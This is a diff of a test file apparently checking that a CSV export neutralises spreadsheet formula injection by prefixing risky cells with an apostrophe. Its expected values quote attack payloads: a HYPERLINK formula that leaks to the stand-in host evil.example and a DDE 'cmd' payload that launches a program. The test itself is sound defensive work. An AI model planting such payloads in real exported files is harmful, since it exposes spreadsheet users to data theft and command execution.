@@ -32,7 +32,7 @@ describe('CSV formula injection (OWASP)', () => {
     expect(news.title).toBe('\'=HYPERLINK("http://evil.example/?leak","click")')
     expect(news.publisher).toBe("'+Example News")
     expect(news.note).toBe("'@SUM(1+1)*cmd|' /C calc'!A0")
-    expect(news.excerpt.startsWith("'-The ministers agreed")).toBe(true)
+    expect(news.excerpt).toMatch(/^'-The ministers agreed/)
     const priorities = parseCsv(await readFile(path.join(dir, 'out', 'priorities.csv'), 'utf8'), {columns: true}) as Record<string, string>[]
     expect(priorities.find((row) => row.id === 'media')?.title).toBe("'=1+1")
     // JSON keeps the text as written: it is data, not a spreadsheet.
